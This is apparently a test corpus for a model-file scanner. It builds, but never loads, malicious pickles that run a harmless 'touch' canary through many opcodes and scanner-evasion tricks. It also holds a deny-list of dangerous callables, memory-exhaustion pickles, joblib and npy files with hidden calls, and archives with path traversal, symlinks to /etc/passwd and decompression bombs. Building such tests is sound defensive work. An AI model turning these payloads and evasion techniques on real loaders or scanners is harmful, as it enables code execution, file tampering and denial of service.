"""A corpus of attacks: each file tries to make its reader create the canary, or to exhaust it.

They are made here and never loaded. ``PICKLES`` are for ``pickle.load`` and its like, ``FILES``
hide pickles and bombs in other formats.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Final

import joblib
import lz4.frame
import numpy as np

from tests.imports.scanning.assembling import (
    blob,
    call,
    framed,
    lines,
    named,
    pickle_of,
    text,
    wide_text,
)

CANARY: Final = "/tmp/aegis-scanner-canary"
COMMAND: Final = f"touch {CANARY}"
ATTACK: Final = pickle_of(call("os", "system", text(COMMAND)))

DANGEROUS: Final = (
    ("posix", "system"), ("nt", "system"), ("os", "popen"), ("os", "execv"), ("os.path", "os"),
    ("subprocess", "Popen"), ("subprocess", "check_output"), ("builtins", "eval"),
    ("builtins", "exec"), ("builtins", "compile"), ("builtins", "getattr"),
    ("builtins", "__import__"), ("builtins", "open"), ("builtins", "breakpoint"),
    ("builtins", "type"), ("sys", "modules"), ("runpy", "run_path"), ("importlib", "import_module"),
    ("pty", "spawn"), ("socket", "create_connection"), ("shutil", "rmtree"), ("ctypes", "CDLL"),
    ("code", "interact"), ("codeop", "compile_command"), ("types", "CodeType"),
    ("types", "FunctionType"), ("operator", "attrgetter"), ("operator", "methodcaller"),
    ("webbrowser", "open"), ("timeit", "timeit"), ("pdb", "run"), ("cProfile", "run"),
    ("asyncio", "run"), ("multiprocessing", "Process"), ("pickle", "loads"), ("marshal", "loads"),
    ("dill", "loads"), ("cloudpickle.cloudpickle", "_make_function"), ("joblib", "load"),
    ("numpy", "load"), ("numpy.testing._private.utils", "runstring"),
    ("numpy.f2py.crackfortran", "getlincoef"), ("pandas", "read_pickle"), ("torch", "load"),
    ("torch.hub", "load"), ("torch.jit", "load"), ("torch.utils.cpp_extension", "load_inline"),
    ("scipy.stats._continuous_distns", "norm_gen"), ("pip", "main"), ("urllib.request", "urlopen"),
    ("http.client", "HTTPConnection"), ("zipimport", "zipimporter"), ("bdb", "Bdb"),
    ("distutils.file_util", "write_file"), ("tempfile", "mktemp"), ("sqlite3", "connect"),
)  # fmt: skip


def _memo_tricks() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that name what they import in ways that a search for names misses."""
    call_it = text(COMMAND) + b"\x85R"
    stored = text("os") + b"\x94" + text("system") + b"\x94" + b"00"
    yield "names through the memo", pickle_of(stored, b"h\x00h\x01\x93", call_it)
    yield "names through text numbers", pickle_of(stored, b"g0\ng1\n\x93", call_it)
    swapped = text("json") + b"q\x00" + text("os") + b"q\x000h\x00" + text("system")
    yield "a memo that is overwritten", pickle_of(b"N0", swapped, b"\x93", call_it)
    yield "wide texts", pickle_of(wide_text("os"), wide_text("system"), b"\x93", call_it)
    yield "escaped text", pickle_of(rb"V\u006fs" + b"\n", text("system"), b"\x93", call_it)
    escaped = rb"S'\x6f\x73'" + b"\n"
    yield "an escaped string", pickle_of(escaped, text("system"), b"\x93", call_it)
    joined = call("_codecs", "encode", text("system"), text("latin1"))
    decoded = b"\x8c\x08builtins\x8c\x03str\x93(" + joined + text("ascii") + b"tR"
    yield "a name that is computed", pickle_of(text("os"), decoded, b"\x93", call_it)
    yield "a dotted name", pickle_of(named("json", "codecs.builtins.eval"), text("1"), b"\x85R")
    yield "an alias", pickle_of(named("logging", "os.system"), call_it)
    yield "a package's own import", pickle_of(named("sklearn.base", "os.system"), call_it)


def _opcode_tricks() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that call by each opcode that can."""
    argument = text(COMMAND)
    yield "INST", pickle_of(b"(", argument, b"ios\nsystem\n")
    yield "OBJ", pickle_of(b"(", lines("os", "system"), argument, b"o")
    yield "NEWOBJ", pickle_of(named("os", "_wrap_close"), argument, b"\x85\x81")
    yield "NEWOBJ_EX", pickle_of(named("os", "_wrap_close"), argument, b"\x85}\x92")
    yield "GLOBAL and REDUCE", pickle_of(lines("os", "system"), argument, b"\x85R")
    yield "protocol 0", b"cos\nsystem\n(S'" + COMMAND.encode() + b"'\ntR."
    yield "Python 2's names", b"c__builtin__\neval\n(S'1'\ntR."
    yield "Python 2's modules", b"ccommands\ngetoutput\n(S'id'\ntR."
    yield "EXT1", pickle_of(b"\x82\x01", argument, b"\x85R")
    yield "EXT2", pickle_of(b"\x83\x01\x00", argument, b"\x85R")
    yield "EXT4", pickle_of(b"\x84\x01\x00\x00\x00", argument, b"\x85R")
    yield "PERSID", pickle_of(b"Pos.system\n")
    yield "BINPERSID", pickle_of(argument, b"Q")
    yield "an import alone", pickle_of(named("antigravity", "fly_graph"), b"0N")
    yield "no STOP", ATTACK[:-1]
    yield "garbage behind the call", ATTACK[:-1] + b"\xff\xff\xff"
    yield "a second pickle", pickle.dumps([1]) + ATTACK
    yield "bytes behind the end", pickle.dumps([1]) + b"\0" * 8
    yield "a call whose result is dropped", pickle_of(call("os", "system", argument), b"0N")
    yield "out of band", pickle_of(b"\x97", protocol=5)
    yield "an unknown protocol", b"\x80\x05" + b"\x80\x09" + ATTACK[2:]
    yield "an unknown opcode", pickle_of(b"\xf0")
    yield "a state that calls", pickle_of(
        named("sklearn.pipeline", "Pipeline"),
        b")\x81}", text("steps"), call("os", "system", argument), b"sb",
    )  # fmt: skip
    yield "a nested pickle", pickle_of(call("pickle", "loads", blob(ATTACK)))
    yield "a pickle in known bytes", pickle_of(b"]", blob(ATTACK), b"a")
    yield "a class of one's own", pickle_of(named("__main__", "Model"), b")\x81")
    yield "partial", pickle_of(call("functools", "partial", named("os", "system"), argument))
    yield "a factory", pickle_of(call("collections", "defaultdict", named("os", "getpid")))


def _known_names_misused() -> Iterator[tuple[str, bytes]]:
    """Yield pickles whose names are all on the list, and whose use of them is not."""
    estimator = named("sklearn.svm._classes", "SVC")
    yield "a class is changed", pickle_of(estimator, b"N}", text("fit"), b"Ns\x86b")
    yield "a class is filled", pickle_of(estimator, text("fit"), b"Ns")
    yield "another class", pickle_of(estimator, b")\x81N}", text("__class__"), b"Ns\x86b")
    booster = call("xgboost.core", "Booster", b"N", b"N", text("/etc/passwd"))
    yield "a model from another file", pickle_of(booster)
    base = b"(" + estimator + named("builtins", "Exception") + b"NtR"
    yield "another base", pickle_of(named("copyreg", "_reconstructor"), base)
    yield (
        "a constructor of one's own",
        pickle_of(
            call("numpy.random._pickle", "__generator_ctor", text("x"), named("builtins", "list"))
        ),
    )
    yield "an odd codec", pickle_of(call("_codecs", "encode", text("x"), text("rot13")))
    dtype = call("numpy", "dtype", text("O8"), b"\x89", b"\x88")
    hidden = b"(K\x03" + text("|") + b"NNNJ\xff\xff\xff\xffJ\xff\xff\xff\xffK\x00tb"
    yield "pointers as numbers", pickle_of(dtype, hidden)
    number = call("numpy", "dtype", text("u8"), b"\x89", b"\x88")
    yield (
        "pointers from a buffer",
        pickle_of(
            call("numpy", "ndarray", b"K\x01\x85", dtype, call("builtins", "bytearray", b"K\x08"))
        ),
    )
    fields = b"}(" + text("a") + dtype + b"K\x00\x86" + text("b") + number + b"K\x00\x86u"
    state = b"(K\x03" + text("|") + b"N" + text("a") + text("b") + b"\x86" + fields
    shared = call("numpy", "dtype", text("V8"), b"\x89", b"\x88") + state + b"K\x08K\x01K\x1btb"
    yield "fields that share bytes", pickle_of(shared)
    instance, key = estimator + b")\x81", text("__array_interface__")
    ordered = named("collections", "OrderedDict")
    yield "an interface in a dict of another kind", pickle_of(instance, ordered, b")R", key, b"Nsb")
    pairs = b"]]" + key + b"aNaa"
    yield "an interface in the arguments of a dict", pickle_of(instance, ordered, pairs, b"\x85Rb")
    computed = call("builtins", "str", blob(b"__array_interface__"), text("ascii"))
    yield "an interface of a computed name", pickle_of(instance, b"}", computed, b"Nsb")
    yield "a dtype of a text", pickle_of(call("numpy", "dtype", text("f8,O")), b"Nb")
    yield "an estimator that is called", pickle_of(call("sklearn.svm._classes", "SVC", b"N"))
    yield "an instance that is called", pickle_of(estimator, b")\x81)R")


def _exhausting() -> Iterator[tuple[str, bytes]]:
    """Yield pickles that are small and grow, or lie about their sizes."""
    yield "a memo of billions", pickle_of(b"Nr\xff\xff\xff\xff")
    yield "a place that is negative", pickle_of(b"Np-1\n")
    yield "a huge text", pickle_of(b"\x8d" + struct.pack("<Q", 1 << 62))
    yield "huge bytes", pickle_of(b"\x8e" + struct.pack("<Q", 1 << 62))
    yield "a negative size", pickle_of(b"T\xff\xff\xff\xff")
    yield "marks in marks", pickle_of(b"(" * 100_000)
    yield "an empty stack", pickle_of(b"R")
    yield "a memo that is empty", pickle_of(b"h\x07")
    yield "a frame beyond the end", b"\x80\x04" + framed(b"N.", length=1 << 40)
    yield "a frame in a frame", b"\x80\x04" + framed(framed(b"N."), b"0")
    yield "an opcode over a frame's end", b"\x80\x04" + framed(text(COMMAND), length=4) + b"."
    yield "a pickle that is cut", pickle.dumps(list(range(99)))[:-9]
    yield "a line without an end", b"\x80\x02V" + b"x" * 2_000_000


def _joblib_tricks() -> Iterator[tuple[str, bytes]]:
    """Yield joblib files with something else where the arrays are."""
    file = _Unaligned()
    joblib.dump({"a": np.frombuffer(ATTACK.ljust(64, b"."), dtype="u1")}, file)
    yield "joblib: a call in an array", file.getvalue()
    file = io.BytesIO()
    joblib.dump(np.arange(9.0), file)
    begin = file.getvalue().index(b"ub", file.getvalue().index(b"alignment_bytes")) + 2
    padding = pickle_of(call("os", "getpid"))[2:].ljust(ord("0"), b".")
    hidden = file.getvalue()[:begin] + b"0" + padding + np.arange(9.0).tobytes() + b"."
    yield "joblib: a call in the padding", hidden
    file = io.BytesIO()
    joblib.dump({"a": np.array([_Calls()], dtype=object)}, file)
    yield "joblib: a call in an array of objects", file.getvalue()
    file = io.BytesIO()
    joblib.dump([np.arange(9.0), _Calls()], file)
    yield "joblib: a call behind an array", file.getvalue()
    file = io.BytesIO()
    joblib.dump(np.arange(9.0), file)
    yield "joblib: a negative size", file.getvalue().replace(b"K\x09\x85", b"J\xff\xff\xff\xff\x85")
    yield "joblib: a size beyond the end", file.getvalue().replace(b"K\x09\x85", b"M\xff\xff\x85")
    yield "joblib: an old wrapper", pickle_of(
        named("joblib.numpy_pickle_compat", "NDArrayWrapper"),
        b")\x81}", text("filename"), text("/etc/passwd"), b"sb",
    )  # fmt: skip
    yield "joblib: an array in a frame", _array_in_a_frame()


def _array_in_a_frame() -> bytes:
    """Return a file in which joblib finds its array behind a frame, and other readers in it."""
    file = io.BytesIO()
    joblib.dump(np.arange(9.0), file, protocol=2)
    data = file.getvalue()
    end = data.index(b"ub", data.index(b"alignment_bytes")) + 2
    hidden = call("os", "system", text(COMMAND)) + b"0"
    return b"\x80\x04" + framed(data[2:end], hidden) + data[end:]


class _Unaligned(io.BytesIO):
    """A file before which joblib cannot align an array."""

    def tell(self) -> int:
        raise io.UnsupportedOperation


class _Calls:
    def __reduce__(self) -> tuple[Callable[..., object], tuple[object, ...]]:
        return eval, (f"__import__('os').system({COMMAND!r})",)


def zip_of(
    members: dict[str, bytes], *, compression: int = zipfile.ZIP_STORED, mode: int = 0o100644
) -> bytes:
    file = io.BytesIO()
    with zipfile.ZipFile(file, "w", compression) as archive:
        for name, data in members.items():
            info = zipfile.ZipInfo(name)
            info.external_attr = mode << 16
            info.compress_type = compression
            archive.writestr(info, data)
    return file.getvalue()


def tar_of(members: dict[str, bytes], *, kind: bytes = tarfile.REGTYPE, link: str = "") -> bytes:
    file = io.BytesIO()
    with tarfile.open(fileobj=file, mode="w") as archive:
        for name, data in members.items():
            info = tarfile.TarInfo(name)
            info.type, info.linkname = kind, link
            info.size = len(data) if kind == tarfile.REGTYPE else 0
            archive.addfile(info, io.BytesIO(data))
    return file.getvalue()


def _hidden() -> Iterator[tuple[str, bytes]]:
    """Yield the attack in other formats."""
    compressors: dict[str, Callable[[bytes], bytes]] = {
        "gzip": gzip.compress, "zlib": zlib.compress, "bzip2": bz2.compress, "xz": lzma.compress,
        "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE), "lz4": lz4.frame.compress,
    }  # fmt: skip
    for name, compress in compressors.items():
        yield f"{name}", compress(ATTACK)
    yield "gzip in gzip", gzip.compress(gzip.compress(ATTACK))
    yield "a second gzip stream", gzip.compress(b"hello") + gzip.compress(ATTACK)
    yield "zip", zip_of({"a.txt": ATTACK})
    yield "deflated zip", zip_of({"a.txt": ATTACK}, compression=zipfile.ZIP_DEFLATED)
    yield "zip in tar in gzip", gzip.compress(tar_of({"a": zip_of({"b": ATTACK})}))
    yield "tar", tar_of({"weights.bin": ATTACK})
    yield "npz", zip_of({"weights.npy": _array_of_objects()})
    yield "npy", _array_of_objects()
    yield "pickle and zip", ATTACK + zip_of({"a.txt": b"hello"})
    yield "text and zip", b"hello world, " * 9 + zip_of({"a.pkl": ATTACK})
    yield "zip and garbage", zip_of({"a.pkl": ATTACK}) + b"\0" * 30


def _array_of_objects() -> bytes:
    file = io.BytesIO()
    np.save(file, np.array([_Calls()], dtype=object))
    return file.getvalue()


def _broken_archives() -> Iterator[tuple[str, bytes]]:
    """Yield archives that mislead those who unpack them, and bombs."""
    plain = zip_of({"a.txt": b"hello", "b.txt": b"world"})
    yield "zip: an absolute path", zip_of({"/etc/passwd": b"x"})
    yield "zip: a path upwards", zip_of({"../../x": b"x"})
    yield "zip: a link", zip_of({"x": b"/etc/passwd"}, mode=0o120777)
    yield "zip: two names in one", plain.replace(b"b.txt", b"A.txt")
    yield "zip: headers that disagree", plain.replace(b"a.txt", b"c.txt", 1)
    yield "zip: encrypted", _with_flags(plain, 1)
    yield "zip: something before it", b"MZ" + plain
    yield "zip: something behind it", plain + b"hidden"
    yield "zip: members that share bytes", _overlapping()
    yield "zip: cut", plain[:-20]
    yield "zip: a directory in a comment", plain[:-2] + struct.pack("<H", 22) + plain[-22:]
    yield "tar: an absolute path", tar_of({"/etc/passwd": b"x"})
    yield "tar: a path upwards", tar_of({"../../x": b"x"})
    yield "tar: a link", tar_of({"x": b""}, kind=tarfile.SYMTYPE, link="/etc/passwd")
    yield "tar: a hard link", tar_of({"x": b""}, kind=tarfile.LNKTYPE, link="/etc/passwd")
    yield "tar: a device", tar_of({"x": b""}, kind=tarfile.CHRTYPE)
    yield "tar: something behind it", tar_of({"x": b"y"}) + tar_of({"y": ATTACK})
    yield "tar: cut", tar_of({"x": b"y" * 9_000})[:3_000]
    yield "a bomb", gzip.compress(bytes(200_000_000))
    yield "a bomb in a bomb", gzip.compress(gzip.compress(bytes(200_000_000)))
    yield "a bomb in a zip", zip_of({"x": bytes(200_000_000)}, compression=zipfile.ZIP_DEFLATED)
    nested = b"hello"
    for _ in range(9):
        nested = zip_of({"x.zip": nested})
    yield "zips in zips", nested
    yield "a gzip that is cut", gzip.compress(ATTACK)[:-9]
    yield "7-Zip", b"7z\xbc\xaf\x27\x1c" + bytes(40)
    yield "Zstandard", b"\x28\xb5\x2f\xfd" + bytes(40)


def _with_flags(data: bytes, flags: int) -> bytes:
    """Return a zip whose members all carry these flags, in both headers."""
    out = bytearray(data)
    for signature, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = out.find(signature)
        while at >= 0:
            out[at + offset] |= flags
            at = out.find(signature, at + 4)
    return bytes(out)


def _overlapping() -> bytes:
    """Return a zip whose directory names one member's bytes twice."""
    plain = zip_of({"a.txt": b"hello"})
    begin, end = plain.index(b"PK\x01\x02"), plain.index(b"PK\x05\x06")
    record = plain[begin:end]
    size, offset = 2 * len(record), begin
    tail = struct.pack("<4s4H2LH", b"PK\x05\x06", 0, 0, 2, 2, size, offset, 0)
    return plain[:begin] + 2 * record + tail


PICKLES: Final[dict[str, bytes]] = {
    **{
        f"{module}.{name}": pickle_of(call(module, name, text(COMMAND)))
        for module, name in DANGEROUS
    },
    **dict(_memo_tricks()),
    **dict(_opcode_tricks()),
    **dict(_known_names_misused()),
    **dict(_exhausting()),
    **dict(_joblib_tricks()),
}
FILES: Final[dict[str, bytes]] = {**dict(_hidden()), **dict(_broken_archives())}
